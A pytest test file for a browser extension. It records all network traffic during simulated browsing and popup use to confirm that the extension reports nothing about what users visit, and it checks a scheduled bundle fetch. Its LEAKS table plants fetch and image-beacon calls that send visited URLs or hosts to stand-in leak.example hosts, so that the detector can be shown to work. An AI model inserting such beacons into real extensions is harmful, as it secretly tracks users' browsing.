"""All traffic of both browsers, written down: nobody learns what a person visits or opens."""

from __future__ import annotations

import json

import pytest

from tests import fixtures_browsers as b
from tests.fixtures_browsers import API_HOST
from tests.recording_web import RecordingWeb

pytestmark = pytest.mark.slow

VISITS, OPENINGS = 200, 50
SITES = (
    "http://shop.quendrivox.example/tessquill",
    "http://www.brellomar.example/privacy",
    "http://www.tavelunne.example/cars",
    "http://elsewhere.example/news",
    "http://notquendrivox.example/",
)
VENDORS = [
    f"*://*.{name}.example/*" for name in ("brellomar", "pellifrane", "quendrivox", "tavelunne")
]
GRANTED = [f"https://{API_HOST}/*", *VENDORS]


def recorded(name, document, folder, visits, openings, planted=None):
    """What was asked for beside the pages themselves, with everything switched on."""
    b.pack(folder, name, json.dumps(document).encode(), granted=GRANTED, planted=planted)
    with RecordingWeb() as web:
        web.hosts[API_HOST] = b.served(json.dumps(document).encode())
        with b.running(name, folder, web.address) as browser:
            b.fresh(browser, badge=True, marks=True, notify=True)
            b.background(browser, {"settle": True})
            tab = browser.visit(SITES[1])
            b.begin_reading(browser, tab)  # the panel stays open and follows
            web.log.clear()
            for number in range(visits):
                browser.go(tab, f"{SITES[number % len(SITES)]}?visit={number}")
                if number % (visits // openings) == 0:
                    with b.popup(browser, tab) as popup:
                        assert popup.run('return Boolean($("h1"))')
            seen = {asked.url for asked in web.log}
            assert len([url for url in seen if "?visit=" in url]) == visits
            assert b.stored(browser, "looks")["looks"], "the popup did its work"
            return [
                asked.url
                for asked in b.others(web)
                if "?visit=" not in asked.url and not asked.url.endswith("/favicon.ico")
            ]


def test_no_visit_and_no_opening_of_the_popup_asks_anybody_anything(name, sample_bundle, tmp_path):
    assert recorded(name, sample_bundle, tmp_path / "x", VISITS, OPENINGS) == []


LEAKS = {
    # file: (what stands there, what a leak would add behind it)
    "popup/popup.js": ("await open();", "fetch('https://popup.leak.example/');"),
    "panel/panel.js": (
        "async function follow() {",
        "fetch('https://panel.leak.example/');",
    ),
    "background.js": (
        "async function visited(tabId, url) {",
        "fetch('https://worker.leak.example/?' + encodeURIComponent(url));",
    ),
    "page/visit.js": (
        "tell();",
        "new Image().src = 'http://visit.leak.example/?' + location.host;",
    ),
}


def leaking(there: str, leak: str):
    """What plants a leak in a file."""

    def change(code: bytes) -> bytes:
        assert there.encode() in code
        return code.replace(there.encode(), f"{there} {leak}".encode(), 1)

    return change


def test_each_planted_leak_is_found(name, sample_bundle, tmp_path):
    planted = {file: leaking(*where) for file, where in LEAKS.items()}
    found = recorded(name, sample_bundle, tmp_path / "x", 5, 1, planted)
    for host in ("popup", "panel", "worker", "visit"):
        assert [url for url in found if f"//{host}.leak.example/" in url], host


def test_the_bundle_is_fetched_when_its_hour_has_come(name, sample_bundle, tmp_path):
    b.pack(tmp_path / "x", name, json.dumps(sample_bundle).encode(), granted=GRANTED)
    with RecordingWeb() as web:
        web.hosts[API_HOST] = b.served(json.dumps(sample_bundle).encode())
        with b.running(name, tmp_path / "x", web.address) as browser:
            b.fresh(browser)
            web.log.clear()
            browser.run("""
                const api = globalThis.browser ?? globalThis.chrome;
                await api.alarms.create("bundle", { when: Date.now() + 300 });
            """)
            browser.kill_worker()
            b.eventually(lambda: web.asked_of(API_HOST), 120)
            [asked] = b.others(web)
            assert asked.url == f"https://{API_HOST}/v1/bundle.json"
            [alarm] = browser.run("return (globalThis.browser ?? chrome).alarms.getAll()")
            now = browser.run("return Date.now()")
            assert 5.9 < (alarm["scheduledTime"] - now) / 3_600_000 < 18.1
